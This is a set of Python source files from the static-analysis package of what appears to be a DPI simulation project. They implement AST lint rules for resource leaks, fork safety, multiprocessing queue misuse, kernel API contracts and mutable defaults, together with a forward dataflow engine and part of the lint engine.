                    (cfg.raise_exit, "an escaping exception"),
                ):
                    exit_state = states.get(exit_block.id, {})
                    for key, facts in sorted(exit_state.items()):
                        # Joined states mix per-path facts.  An escape on
                        # any path means ownership may have transferred —
                        # benefit of the doubt.  A release on merely
                        # *some* path still flags: the other path leaks
                        # (the `if cond: return` skip-the-close shape).
                        if (
                            ACQUIRED not in facts
                            or ESCAPED in facts
                            or key in flagged
                        ):
                            continue
                        acquisition = client.acquisitions.get(key)
                        if acquisition is None:
                            continue
                        flagged.add(key)
                        yield context.finding(
                            acquisition.node,
                            self.code,
                            f"{acquisition.kind} '{key}' acquired in "
                            f"{qualname}() has a path to {where} with no "
                            "close/unlink/join/shutdown or "
                            "weakref.finalize",
                        )
                for (key, _, _), anchor in sorted(client.windows.items()):
                    if key in flagged:
                        continue
                    acquisition = client.acquisitions.get(key)
                    if acquisition is None:
                        continue
                    flagged.add(key)
                    yield context.finding(
                        anchor,
                        self.code,
                        f"'{key}' is held across this call in {qualname}() "
                        "with no enclosing try/finally or finalize guard — "
                        "if the call raises, the "
                        f"{acquisition.kind} leaks",
                    )


# --- RES002 ------------------------------------------------------------------


def _method_releases(method: ast.FunctionDef | ast.AsyncFunctionDef, attr: str) -> bool:
    """True when *method* releases ``self.<attr>`` (directly, through a
    local alias, or by handing it to a callee/finalizer)."""
    dotted_attr = f"self.{attr}"
    aliases = {dotted_attr}
    for node in ast.walk(method):
        if isinstance(node, ast.Assign) and len(node.targets) == 1:
            target = node.targets[0]
            value_name = dotted_name(node.value)
            if (
                isinstance(target, ast.Name)
                and value_name in aliases
            ):
                aliases.add(target.id)
    for node in ast.walk(method):
        if not isinstance(node, ast.Call):
            continue
        if isinstance(node.func, ast.Attribute) and node.func.attr in RELEASE_VERBS:
            receiver = dotted_name(node.func.value)
            if receiver in aliases:
                return True
        for argument in [*node.args, *(k.value for k in node.keywords)]:
            if dotted_name(argument) in aliases:
                return True
    return False


@register_rule
class UnownedEscapeRule(Rule):
    """RES002: a resource stored on ``self`` needs an owning teardown."""

    code = "RES002"
    summary = (
        "a resource constructor assigned to self.<attr> in a class with "
        "no method that ever releases that attribute"
    )
    node_types = (ast.ClassDef,)

    def visit(self, node: ast.AST, context: "LintContext") -> Iterator[Finding]:
        assert isinstance(node, ast.ClassDef)
        methods = [
            child
            for child in ast.walk(node)
            if isinstance(child, (ast.FunctionDef, ast.AsyncFunctionDef))
        ]
        stored: dict[str, ast.AST] = {}
        for method in methods:
            for statement in ast.walk(method):
                if not isinstance(statement, ast.Assign):
                    continue
                if not isinstance(statement.value, ast.Call):
                    continue
                if acquisition_kind(statement.value) is None:
                    continue
                for target in statement.targets:
                    if (
                        isinstance(target, ast.Attribute)
                        and isinstance(target.value, ast.Name)
                        and target.value.id == "self"
                    ):
                        stored.setdefault(target.attr, statement.value)
        for attr, site in sorted(stored.items()):
            if any(_method_releases(method, attr) for method in methods):
                continue
            yield context.finding(
                site,
                self.code,
                f"resource stored on self.{attr} but no method of "
                f"{node.name} ever releases it (close/unlink/join/"
                "shutdown or weakref.finalize)",
            )
