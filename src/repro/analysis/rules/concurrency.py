"""Concurrency rules: CON001 (fork-unsafe state before a Process start)
and CON002 (multiprocessing queue protocol violations).

Both are path problems, so both run as forward dataflow clients over the
per-function CFGs rather than per-node visitors:

* **CON001** — the zerocopy pool starts its workers with the ``fork``
  start method, so a child inherits a snapshot of the parent at the
  moment of ``Process.start()``.  Threads do not survive the fork (their
  locks can be copied *held*), ``threading`` locks copied mid-acquire
  deadlock the child, and a ``multiprocessing.Queue`` that has been
  ``put()`` to has a live feeder thread whose buffered items the child
  never sees.  Creating queues before the fork is the normal inheritance
  pattern and stays clean — only *feeding* them, starting threads or
  creating threading locks taints the state.
* **CON002** — after ``close()`` (or on a second ``close()``), a
  multiprocessing queue raises at best and corrupts the feeder at worst.
  The client tracks the close point per path so a ``close()`` inside a
  loop (re-executed on the back edge) is not mistaken for a double
  close.
"""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING, Iterator

from repro.analysis.astutil import dotted_name
from repro.analysis.dataflow import State, TransferClient, run_forward
from repro.analysis.findings import Finding
from repro.analysis.rules import Rule, register_rule
from repro.analysis.rules.resources import _calls_in

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.analysis.program import Program

#: Constructors whose result is a multiprocessing-style queue.  A bare
#: ``queue.Queue`` (thread queue, no feeder process) is excluded by its
#: ``queue.`` root.
_QUEUE_CONSTRUCTORS = frozenset({"Queue", "JoinableQueue", "SimpleQueue"})

#: ``threading`` synchronization constructors that are fork hazards.
_LOCK_CONSTRUCTORS = frozenset(
    {"Lock", "RLock", "Condition", "Semaphore", "BoundedSemaphore", "Barrier"}
)

#: Pseudo-key carrying accumulated fork-taint descriptions.
_TAINT = "<fork taint>"


def _constructor_kind(call: ast.Call) -> str | None:
    name = dotted_name(call.func)
    if name is None:
        return None
    parts = name.split(".")
    trailing = parts[-1]
    if trailing == "Process":
        return "process"
    if trailing == "Thread":
        return "thread"
    if trailing in _QUEUE_CONSTRUCTORS and parts[0] != "queue":
        return "queue"
    return None


def _is_threading_lock(call: ast.Call) -> bool:
    name = dotted_name(call.func)
    if name is None:
        return False
    parts = name.split(".")
    return (
        len(parts) == 2
        and parts[0] == "threading"
        and parts[1] in _LOCK_CONSTRUCTORS
    )


class _ForkSafetyClient(TransferClient):
    """CON001: taints fork-unsafe state, checks it at Process starts."""

    def __init__(self) -> None:
        #: (line, col) -> (anchor node, taint description)
        self.findings: dict[tuple[int, int], tuple[ast.AST, str]] = {}

    def transfer(self, statement: ast.stmt, state: State) -> State:
        if isinstance(statement, ast.Assign) and isinstance(
            statement.value, ast.Call
        ):
            kind = _constructor_kind(statement.value)
            if kind is not None:
                for target in statement.targets:
                    if isinstance(target, ast.Name):
                        state = {**state, target.id: frozenset((kind,))}
        for call in _calls_in(statement):
            state = self._call_effect(call, state)
        return state

    def _taint(self, state: State, description: str) -> State:
        existing = state.get(_TAINT, frozenset())
        return {**state, _TAINT: existing | {description}}

    def _receiver_kind(self, call: ast.Call, state: State) -> tuple[str, str] | None:
        """(receiver description, kind) for ``x.method()`` calls."""
        if not isinstance(call.func, ast.Attribute):
            return None
        value = call.func.value
        if isinstance(value, ast.Call):
            kind = _constructor_kind(value)
            if kind is not None:
                return (dotted_name(value.func) or "<anonymous>", kind)
            return None
        receiver = dotted_name(value)
        if receiver is None:
            return None
        facts = state.get(receiver)
        for kind in ("process", "thread", "queue"):
            if facts is not None and kind in facts:
                return (receiver, kind)
        return None

    def _call_effect(self, call: ast.Call, state: State) -> State:
        if _is_threading_lock(call):
            return self._taint(
                state,
                f"a threading lock is created at line {call.lineno}",
            )
        if not isinstance(call.func, ast.Attribute):
            return state
        described = self._receiver_kind(call, state)
        if described is None:
            return state
        receiver, kind = described
        attr = call.func.attr
        if attr == "start" and kind == "thread":
            return self._taint(
                state,
                f"thread '{receiver}' is started at line {call.lineno}",
            )
        if attr in ("put", "put_nowait") and kind == "queue":
            return self._taint(
                state,
                f"queue '{receiver}' is fed at line {call.lineno} "
                "(its feeder thread is live)",
            )
        if attr == "start" and kind == "process":
            taints = state.get(_TAINT, frozenset())
            if taints:
                position = (call.lineno, call.col_offset)
                self.findings.setdefault(
                    position, (call, min(sorted(taints)))
                )
        return state


@register_rule
class ForkSafetyRule(Rule):
    """CON001: no live thread/lock/fed-queue state at a fork start."""

    code = "CON001"
    summary = (
        "Process.start() is reachable while a thread is running, a "
        "threading lock exists or a multiprocessing queue has been fed — "
        "fork-unsafe parent state"
    )

    def finish(self, program: "Program") -> Iterator[Finding]:
        for context in program.contexts:
            for qualname, cfg in sorted(program.cfgs_for(context).items()):
                client = _ForkSafetyClient()
                run_forward(cfg, client)
                for _, (anchor, taint) in sorted(client.findings.items()):
                    yield context.finding(
                        anchor,
                        self.code,
                        f"Process.start() in {qualname}() while fork-unsafe "
                        f"state is live: {taint}; start worker processes "
                        "before creating threads/locks or feeding queues",
                    )


class _QueueProtocolClient(TransferClient):
    """CON002: put/get after close, double close."""

    _USES = ("put", "put_nowait", "get", "get_nowait")

    def __init__(self) -> None:
        #: (line, col, what) -> (anchor node, message)
        self.findings: dict[tuple[int, int, str], tuple[ast.AST, str]] = {}

    def transfer(self, statement: ast.stmt, state: State) -> State:
        if isinstance(statement, ast.Assign) and isinstance(
            statement.value, ast.Call
        ):
            if _constructor_kind(statement.value) == "queue":
                for target in statement.targets:
                    if isinstance(target, ast.Name):
                        state = {**state, target.id: frozenset(("queue",))}
        for call in _calls_in(statement):
            state = self._call_effect(call, state)
        return state

    def _call_effect(self, call: ast.Call, state: State) -> State:
        if not isinstance(call.func, ast.Attribute):
            return state
        receiver = dotted_name(call.func.value)
        if receiver is None:
            return state
        facts = state.get(receiver)
        if facts is None or "queue" not in facts:
            return state
        attr = call.func.attr
        closed = sorted(f for f in facts if f.startswith("closed@"))
        here = f"closed@{call.lineno}:{call.col_offset}"
        if attr == "close":
            # The same statement revisited on a loop back edge is not a
            # double close; a *different* close site is.
            if any(mark != here for mark in closed):
                self.findings.setdefault(
                    (call.lineno, call.col_offset, "double-close"),
                    (
                        call,
                        f"queue '{receiver}' is closed again here; it is "
                        f"already {closed[0].replace('@', ' at line ')} "
                        "on some path",
                    ),
                )
            return {**state, receiver: facts | {here}}
        if attr in self._USES and closed:
            self.findings.setdefault(
                (call.lineno, call.col_offset, attr),
                (
                    call,
                    f"{attr}() on queue '{receiver}' after close() "
                    f"({closed[0].replace('@', ' at line ')}) on some path",
                ),
            )
        return state


@register_rule
class QueueProtocolRule(Rule):
    """CON002: multiprocessing queue use must respect close/join order."""

    code = "CON002"
    summary = (
        "a multiprocessing queue is put()/get() after close(), or closed "
        "twice, on some control-flow path"
    )

    def finish(self, program: "Program") -> Iterator[Finding]:
        for context in program.contexts:
            for qualname, cfg in sorted(program.cfgs_for(context).items()):
                client = _QueueProtocolClient()
                run_forward(cfg, client)
                for _, (anchor, message) in sorted(client.findings.items()):
                    yield context.finding(
                        anchor, self.code, f"{message} (in {qualname}())"
                    )
