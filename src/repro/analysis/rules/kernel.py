"""Kernel contract rule: the scan-kernel surface stays closed.

Every scan kernel is interchangeable behind one contract —
``scan(data, active_bitmap, state, limit) -> CombinedScanResult`` (see
``repro/core/kernels.py``).  The differential property tests prove the
kernels byte-identical *through that surface only*; a kernel growing
extra public entry points re-opens the equivalence hole the contract
closed.  Helpers are fine as long as they are private.
"""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING, Iterator

from repro.analysis.findings import Finding
from repro.analysis.rules import Rule, register_rule

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.analysis.engine import LintContext

#: The closed public surface of a scan kernel class.
KERNEL_CONTRACT_METHODS = frozenset({"__init__", "scan"})


def _is_kernel_class(node: ast.ClassDef) -> bool:
    """A class is a scan kernel if its name says so and it can scan."""
    if not node.name.endswith("Kernel"):
        return False
    return any(
        isinstance(member, (ast.FunctionDef, ast.AsyncFunctionDef))
        and member.name == "scan"
        for member in node.body
    )


@register_rule
class KernelContractRule(Rule):
    """KER001: scan-kernel public methods stay within the contract."""

    code = "KER001"
    summary = (
        "scan kernels expose only __init__ and scan; anything else must "
        "be private (underscore-prefixed)"
    )
    node_types = (ast.ClassDef,)

    def visit(self, node: ast.AST, context: "LintContext") -> Iterator[Finding]:
        assert isinstance(node, ast.ClassDef)
        if not _is_kernel_class(node):
            return
        for member in node.body:
            if not isinstance(member, (ast.FunctionDef, ast.AsyncFunctionDef)):
                continue
            name = member.name
            if name.startswith("_") and not name.startswith("__"):
                continue  # private helper
            if name in KERNEL_CONTRACT_METHODS:
                continue
            if name.startswith("__") and name.endswith("__"):
                # Dunders other than __init__ (e.g. __repr__) widen the
                # surface too: the contract tests never exercise them.
                pass
            yield context.finding(
                member,
                self.code,
                f"kernel {node.name} exposes public method {name}() outside "
                "the kernel contract (scan/__init__); make it private or "
                "move it off the kernel",
            )
