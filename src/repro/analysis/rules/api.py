"""API hygiene rules: mutable defaults, deprecated lifecycle shims."""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING, Iterator

from repro.analysis.findings import Finding
from repro.analysis.rules import Rule, dotted_name, register_rule

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.analysis.engine import LintContext

#: Constructor calls producing a shared mutable object per *definition*.
_MUTABLE_FACTORIES = frozenset(
    {
        "bytearray",
        "collections.OrderedDict",
        "collections.defaultdict",
        "collections.deque",
        "defaultdict",
        "deque",
        "dict",
        "list",
        "set",
    }
)


def _is_mutable_default(value: ast.expr) -> bool:
    if isinstance(value, (ast.List, ast.Dict, ast.Set, ast.ListComp, ast.DictComp, ast.SetComp)):
        return True
    if isinstance(value, ast.Call):
        name = dotted_name(value.func)
        return name in _MUTABLE_FACTORIES
    return False


@register_rule
class MutableDefaultRule(Rule):
    """API001: default argument values must be immutable.

    A mutable default is evaluated once at function definition and then
    shared across every call — state leaks between invocations that are
    supposed to be independent.  Use ``None`` plus an in-body fallback.
    """

    code = "API001"
    summary = "no mutable default arguments (list/dict/set/… evaluated once)"
    node_types = (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)

    def visit(self, node: ast.AST, context: "LintContext") -> Iterator[Finding]:
        assert isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda))
        arguments = node.args
        label = (
            "<lambda>" if isinstance(node, ast.Lambda) else node.name
        )
        for default in list(arguments.defaults) + [
            d for d in arguments.kw_defaults if d is not None
        ]:
            if _is_mutable_default(default):
                yield context.finding(
                    default,
                    self.code,
                    f"mutable default argument in {label}(); use None and "
                    "create the object inside the function body",
                )


#: Deprecated DPIController lifecycle/telemetry shims -> their replacement.
_DEPRECATED_SHIMS = {
    "build_instance_config": "instances.build_config(...)",
    "create_instance": "instances.provision(name, ...)",
    "remove_instance": "instances.decommission(name)",
    "refresh_instances": "instances.refresh()",
    "deploy_grouped": "instances.plan_groups(...)",
    "collect_telemetry": "telemetry_snapshot().instances",
}


#: DPIServiceInstance methods whose non-payload parameters are keyword-only
#: (old positional shapes survive only as DeprecationWarning shims).
_KEYWORD_ONLY_INSPECTION = frozenset({"inspect", "inspect_batch"})


@register_rule
class DeprecatedLifecycleShimRule(Rule):
    """API002: in-repo code must not call the deprecated lifecycle shims.

    ``DPIController.create_instance`` and friends survive only as
    :class:`DeprecationWarning` shims for downstream callers; everything in
    this repository goes through the ``controller.instances`` facade
    (:class:`~repro.core.lifecycle.InstanceManager`) or
    ``controller.telemetry_snapshot()``.  Likewise the inspection surface:
    ``inspect``/``inspect_batch`` take ``chain_id``/``flow_key``/``now``/
    ``trace_parent`` as keywords; positional shapes are shims.
    """

    code = "API002"
    summary = "no in-repo calls to deprecated DPIController lifecycle shims"
    node_types = (ast.Call,)

    def visit(self, node: ast.AST, context: "LintContext") -> Iterator[Finding]:
        assert isinstance(node, ast.Call)
        func = node.func
        if not isinstance(func, ast.Attribute):
            return
        replacement = _DEPRECATED_SHIMS.get(func.attr)
        if replacement is not None:
            yield context.finding(
                node,
                self.code,
                f".{func.attr}() is a deprecation shim; use "
                f"controller.{replacement}",
            )
            return
        if func.attr in _KEYWORD_ONLY_INSPECTION and len(node.args) >= 2:
            # First positional is the payload; anything after it rides the
            # deprecated positional shim on DPIServiceInstance.
            yield context.finding(
                node,
                self.code,
                f".{func.attr}() with positional chain_id/flow arguments "
                "is a deprecation shim; pass chain_id=/flow_key=/now=/"
                "trace_parent= as keywords",
            )
