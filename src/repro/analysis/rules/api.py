"""API hygiene rule: no mutable default arguments."""

from __future__ import annotations

import ast
from typing import TYPE_CHECKING, Iterator

from repro.analysis.findings import Finding
from repro.analysis.rules import Rule, dotted_name, register_rule

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.analysis.engine import LintContext

#: Constructor calls producing a shared mutable object per *definition*.
_MUTABLE_FACTORIES = frozenset(
    {
        "bytearray",
        "collections.OrderedDict",
        "collections.defaultdict",
        "collections.deque",
        "defaultdict",
        "deque",
        "dict",
        "list",
        "set",
    }
)


def _is_mutable_default(value: ast.expr) -> bool:
    if isinstance(value, (ast.List, ast.Dict, ast.Set, ast.ListComp, ast.DictComp, ast.SetComp)):
        return True
    if isinstance(value, ast.Call):
        name = dotted_name(value.func)
        return name in _MUTABLE_FACTORIES
    return False


@register_rule
class MutableDefaultRule(Rule):
    """API001: default argument values must be immutable.

    A mutable default is evaluated once at function definition and then
    shared across every call — state leaks between invocations that are
    supposed to be independent.  Use ``None`` plus an in-body fallback.
    """

    code = "API001"
    summary = "no mutable default arguments (list/dict/set/… evaluated once)"
    node_types = (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)

    def visit(self, node: ast.AST, context: "LintContext") -> Iterator[Finding]:
        assert isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda))
        arguments = node.args
        label = (
            "<lambda>" if isinstance(node, ast.Lambda) else node.name
        )
        for default in list(arguments.defaults) + [
            d for d in arguments.kw_defaults if d is not None
        ]:
            if _is_mutable_default(default):
                yield context.finding(
                    default,
                    self.code,
                    f"mutable default argument in {label}(); use None and "
                    "create the object inside the function body",
                )
