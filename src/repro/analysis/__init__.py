"""Static analysis for the DPI-as-a-service reproduction.

Three pillars keep the growing codebase trustworthy *before* traffic
flows (see DESIGN.md section 9):

* a custom AST **lint engine** (:mod:`repro.analysis.engine`,
  :mod:`repro.analysis.rules`) that machine-enforces project invariants
  the simulator relies on — sim-clock discipline, deterministic
  iteration order, bounded telemetry label cardinality, immutable
  defaults and the scan-kernel contract surface — behind
  ``repro-dpi lint``;
* pure **static config validators** (:mod:`repro.analysis.validators`)
  that check a topology / policy-chain / flow-table / pattern-set
  combination for consistency before a simulation runs, behind
  ``repro-dpi check`` and ``validate=True`` entry-point defaults;
* reporters (:mod:`repro.analysis.reporters`) rendering findings as
  human-readable text or a stable JSON schema for CI.
"""

from __future__ import annotations

from repro.analysis.engine import LintEngine, lint_paths, lint_source
from repro.analysis.findings import Finding
from repro.analysis.reporters import render_issues_json, render_json, render_text
from repro.analysis.rules import RULE_REGISTRY, default_rules
from repro.analysis.validators import (
    Severity,
    ValidationError,
    ValidationIssue,
    errors_in,
    format_issues,
    validate_chains,
    validate_flow_tables,
    validate_instance_config,
    validate_load_spec,
    validate_pattern_list,
    validate_pattern_registry,
    validate_scenario,
    validate_steering,
    validate_topology,
)

__all__ = [
    "Finding",
    "LintEngine",
    "RULE_REGISTRY",
    "Severity",
    "ValidationError",
    "ValidationIssue",
    "default_rules",
    "errors_in",
    "format_issues",
    "lint_paths",
    "lint_source",
    "render_issues_json",
    "render_json",
    "render_text",
    "validate_chains",
    "validate_flow_tables",
    "validate_instance_config",
    "validate_load_spec",
    "validate_pattern_list",
    "validate_pattern_registry",
    "validate_scenario",
    "validate_steering",
    "validate_topology",
]
