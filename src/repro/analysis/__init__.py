"""Static analysis for the DPI-as-a-service reproduction.

Three pillars keep the growing codebase trustworthy *before* traffic
flows (see DESIGN.md section 9):

* a custom AST **lint engine** (:mod:`repro.analysis.engine`,
  :mod:`repro.analysis.rules`) that machine-enforces project invariants
  the simulator relies on — sim-clock discipline, deterministic
  iteration order, bounded telemetry label cardinality, immutable
  defaults and the scan-kernel contract surface — behind
  ``repro-dpi lint``;
* a **dataflow layer** under the lint engine — per-function control-flow
  graphs (:mod:`repro.analysis.cfg`), a forward dataflow engine
  (:mod:`repro.analysis.dataflow`) and a module-level call graph
  (:mod:`repro.analysis.callgraph`) — powering the resource-lifecycle
  (RES) and concurrency (CON) rule families plus transitive
  determinism taint (DET003), see DESIGN.md section 14;
* pure **static config validators** (:mod:`repro.analysis.validators`)
  that check a topology / policy-chain / flow-table / pattern-set
  combination for consistency before a simulation runs, behind
  ``repro-dpi check`` and ``validate=True`` entry-point defaults;
* reporters (:mod:`repro.analysis.reporters`) rendering findings as
  human-readable text or a stable JSON schema for CI.
"""

from __future__ import annotations

from repro.analysis.callgraph import CallGraph
from repro.analysis.cfg import CFG, build_cfg, function_cfgs
from repro.analysis.dataflow import TransferClient, run_forward
from repro.analysis.engine import LintEngine, lint_paths, lint_source
from repro.analysis.findings import Finding
from repro.analysis.program import Program
from repro.analysis.reporters import render_issues_json, render_json, render_text
from repro.analysis.rules import RULE_REGISTRY, default_rules
from repro.analysis.validators import (
    Severity,
    ValidationError,
    ValidationIssue,
    errors_in,
    format_issues,
    validate_chains,
    validate_flow_tables,
    validate_instance_config,
    validate_load_spec,
    validate_pattern_list,
    validate_pattern_registry,
    validate_scenario,
    validate_steering,
    validate_topology,
)

__all__ = [
    "CFG",
    "CallGraph",
    "Finding",
    "LintEngine",
    "Program",
    "RULE_REGISTRY",
    "TransferClient",
    "build_cfg",
    "function_cfgs",
    "run_forward",
    "Severity",
    "ValidationError",
    "ValidationIssue",
    "default_rules",
    "errors_in",
    "format_issues",
    "lint_paths",
    "lint_source",
    "render_issues_json",
    "render_json",
    "render_text",
    "validate_chains",
    "validate_flow_tables",
    "validate_instance_config",
    "validate_load_spec",
    "validate_pattern_list",
    "validate_pattern_registry",
    "validate_scenario",
    "validate_steering",
    "validate_topology",
]
