"""A forward dataflow engine over :mod:`repro.analysis.cfg` graphs.

The engine is deliberately small: states are immutable mappings from
client-chosen string keys (variable names, dotted ``root.attr`` paths) to
frozensets of abstract facts; the join is per-key set union; transfer is
supplied per *statement* by the client.  That combination has two useful
properties for lint-grade analyses:

* it is a **may**-analysis — after a join, a fact is present if it held
  on *any* inflowing path, which is the right direction for leak checks
  ("may still be acquired at exit"); and
* it terminates — facts are drawn from a finite alphabet and keys from
  the finite set of names the function assigns, so the per-block states
  grow monotonically to a fixpoint.

Exception edges (kind ``except``) are treated specially: the exception
may occur at *any* statement of the source block, so the state propagated
along them is the join over every intermediate state of the block
(including its entry state), not just the block's final state.  For a
may-analysis this only adds possibilities, keeping the handler view
sound.

Clients observe the run through :class:`TransferClient`: ``transfer``
rewrites the state per statement, and the optional ``observe`` hook sees
every (statement, pre-state, post-state, block) tuple — the RES001
"acquisition window" check lives there, because "would a raise at this
call leak?" is a per-statement question, not a per-edge one.  ``observe``
runs on every fixpoint iteration; clients must collect findings into sets
keyed by source location so re-visits deduplicate.
"""

from __future__ import annotations

import ast
from typing import Mapping

from repro.analysis.cfg import CFG, Block

__all__ = ["State", "TransferClient", "join_states", "run_forward"]

#: One dataflow state: key -> set of facts.  Missing key = untracked.
State = Mapping[str, frozenset[str]]

#: The empty state.
EMPTY_STATE: State = {}


def join_states(left: State, right: State) -> State:
    """Per-key union of two states (the lattice join)."""
    if not left:
        return right
    if not right:
        return left
    merged: dict[str, frozenset[str]] = dict(left)
    for key, facts in right.items():
        existing = merged.get(key)
        merged[key] = facts if existing is None else existing | facts
    return merged


class TransferClient:
    """What a concrete analysis implements.

    ``transfer`` must be pure (same statement + state -> same state);
    ``observe`` may accumulate findings but must be idempotent per
    (statement, state) pair because the engine revisits blocks until the
    fixpoint settles.
    """

    def initial_state(self, cfg: CFG) -> State:
        """The state on entry to the function."""
        return EMPTY_STATE

    def transfer(self, statement: ast.stmt, state: State) -> State:
        """The state after *statement* executes normally."""
        raise NotImplementedError  # pragma: no cover - interface

    def observe(
        self,
        statement: ast.stmt,
        before: State,
        after: State,
        block: Block,
    ) -> None:
        """Called for every statement visit (including re-visits)."""


def _states_equal(left: State, right: State) -> bool:
    if len(left) != len(right):
        return False
    for key, facts in left.items():
        if right.get(key) != facts:
            return False
    return True


def run_forward(
    cfg: CFG, client: TransferClient, *, max_iterations: int = 10_000
) -> dict[int, State]:
    """Run *client* to fixpoint; returns the entry state per block id.

    The returned mapping covers every block the worklist reached
    (unreachable blocks are absent).  ``cfg.exit`` / ``cfg.raise_exit``
    entries are the states a leak check inspects.

    *max_iterations* bounds total block visits as a defence against a
    non-monotone client; hitting it raises ``RuntimeError`` rather than
    silently under-approximating.
    """
    entry_states: dict[int, State] = {cfg.entry.id: client.initial_state(cfg)}
    worklist: list[Block] = [cfg.entry]
    visits = 0
    while worklist:
        visits += 1
        if visits > max_iterations:
            raise RuntimeError(
                f"dataflow did not converge in {max_iterations} visits "
                f"({cfg.qualname})"
            )
        block = worklist.pop(0)
        state = entry_states[block.id]
        intermediate = [state]
        for statement in block.statements:
            after = client.transfer(statement, state)
            client.observe(statement, state, after, block)
            state = after
            intermediate.append(state)
        exceptional = intermediate[0]
        for snapshot in intermediate[1:]:
            exceptional = join_states(exceptional, snapshot)
        for dest, kind in block.edges:
            incoming = exceptional if kind == "except" else state
            known = entry_states.get(dest.id)
            merged = (
                incoming if known is None else join_states(known, incoming)
            )
            if known is None or not _states_equal(known, merged):
                entry_states[dest.id] = merged
                if dest not in worklist:
                    worklist.append(dest)
    return entry_states
