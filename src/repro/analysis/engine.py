"""The AST lint engine: rule framework, dispatch and suppressions.

A :class:`~repro.analysis.rules.Rule` declares the AST node types it is
interested in; the engine parses each module once, walks the tree once,
and dispatches every node to the rules registered for its type (a
visitor registry — adding a rule never adds another tree walk).  After
the per-node walk, rules get a **project phase**: :meth:`Rule.finish`
runs once per lint run with a :class:`~repro.analysis.program.Program`
spanning every linted module — this is where the dataflow/call-graph
family (RES/CON/DET003) and the suppression audit (NOQ001) live, because
their questions ("does this exit path skip ``unlink``?", "does this call
transitively reach the wall clock?") are about paths and programs, not
single nodes.

Suppressions follow the project convention::

    something_flagged()  # repro: noqa[DET001]
    another_thing()      # repro: noqa[DET001,API001]
    blanket_escape()     # repro: noqa

A suppression applies to the physical line the finding is anchored to,
and must be a real comment — the engine tokenizes the source, so the
examples above (inside this docstring) suppress nothing.  Suppressions
that suppress nothing are themselves findings (NOQ001, and those are not
suppressible: delete the comment instead).  Unparseable files surface as
``PARSE001`` findings rather than crashing the run, so one bad file
cannot hide findings in the rest of a tree.
"""

from __future__ import annotations

import ast
import io
import re
import tokenize
from pathlib import Path
from typing import Iterable, Iterator, Sequence

from repro.analysis.findings import Finding
from repro.analysis.program import Program, SuppressionRecord
from repro.analysis.rules import RULE_REGISTRY, Rule, default_rules

#: A suppression comment: ``repro: noqa`` or ``repro: noqa[CODE,...]``.
#: Anchored at the start of the comment text, so prose that merely
#: *mentions* the syntax (like this very comment) is not a directive.
_NOQA_PATTERN = re.compile(
    r"^#\s*repro:\s*noqa(?:\[(?P<codes>[A-Z0-9_,\s]+)\])?"
)

#: Module prefixes treated as simulation paths by determinism rules.
SIM_SCOPE_PREFIXES = (
    "repro.net",
    "repro.core",
    "repro.faults",
    "repro.load",
    "repro.autoscale",
    "repro.anomaly",
)


def module_name_for(path: str) -> str:
    """The dotted module name a file path denotes.

    The name is rooted at the last ``repro`` component so both installed
    trees (``src/repro/net/switch.py``) and synthetic fixture paths
    (``repro/net/fake.py``) resolve identically; paths outside a
    ``repro`` tree fall back to their stem.
    """
    parts = Path(path).with_suffix("").parts
    for index in range(len(parts) - 1, -1, -1):
        if parts[index] == "repro":
            selected = parts[index:]
            if selected[-1] == "__init__":
                selected = selected[:-1]
            return ".".join(selected)
    return parts[-1] if parts else ""


class LintContext:
    """Per-module state shared by every rule during one walk."""

    def __init__(self, path: str, source: str, tree: ast.Module) -> None:
        self.path = path
        self.source = source
        self.tree = tree
        self.module = module_name_for(path)

    @property
    def in_sim_scope(self) -> bool:
        """True for modules on the deterministic simulation paths."""
        return self.module.startswith(SIM_SCOPE_PREFIXES)

    def finding(
        self, node: ast.AST, code: str, message: str, *, severity: str = "error"
    ) -> Finding:
        """A finding anchored at *node* (1-based line, 0-based column)."""
        return Finding(
            path=self.path,
            line=getattr(node, "lineno", 1),
            col=getattr(node, "col_offset", 0),
            code=code,
            message=message,
            severity=severity,
        )


def _comment_lines(source: str) -> Iterator[tuple[int, str]]:
    """(line, text) for every comment token; tolerant of broken tails.

    Tokenizing (rather than regex-scanning raw lines) keeps string
    literals — docstrings documenting the noqa syntax, say — from being
    read as live suppressions.  Sources the tokenizer rejects outright
    fall back to the lexical scan so suppression behaviour degrades
    rather than disappearing.
    """
    try:
        for token in tokenize.generate_tokens(io.StringIO(source).readline):
            if token.type == tokenize.COMMENT:
                yield token.start[0], token.string
    except (tokenize.TokenError, IndentationError, SyntaxError):
        for line_number, line in enumerate(source.splitlines(), 1):
            if "#" in line:
                yield line_number, line[line.index("#") :]


def _suppression_records(path: str, source: str) -> dict[int, SuppressionRecord]:
    """``{line: record}`` for every ``# repro: noqa`` comment."""
    records: dict[int, SuppressionRecord] = {}
    for line_number, text in _comment_lines(source):
        match = _NOQA_PATTERN.search(text)
        if match is None:
            continue
        codes = match.group("codes")
        records[line_number] = SuppressionRecord(
            path,
            line_number,
            None
            if codes is None
            else frozenset(
                code.strip() for code in codes.split(",") if code.strip()
            ),
        )
    return records


def _suppressed_codes(source: str) -> dict[int, frozenset[str] | None]:
    """``{line number: codes}`` for every noqa comment; None = blanket.

    Kept for callers that only need the mapping (tests, tools); the
    engine itself tracks full :class:`SuppressionRecord` objects so
    NOQ001 can audit usage.
    """
    return {
        line: record.codes
        for line, record in _suppression_records("<string>", source).items()
    }


class LintEngine:
    """Runs a set of rules over source files, modules or trees."""

    def __init__(self, rules: Sequence[Rule] | None = None) -> None:
        self.rules: tuple[Rule, ...] = (
            tuple(rules) if rules is not None else tuple(default_rules())
        )
        # Visitor registry: AST node type -> rules interested in it.
        self._dispatch: dict[type[ast.AST], list[Rule]] = {}
        for rule in self.rules:
            for node_type in rule.node_types:
                self._dispatch.setdefault(node_type, []).append(rule)

    # --- public entry points ------------------------------------------------

    def lint_source(self, source: str, path: str = "<string>") -> list[Finding]:
        """Lint one module's source text."""
        return self._run([(path, source)])

    def lint_file(self, path: str | Path) -> list[Finding]:
        """Lint one file on disk."""
        file_path = Path(path)
        return self._run(
            [(str(file_path), file_path.read_text(encoding="utf-8"))]
        )

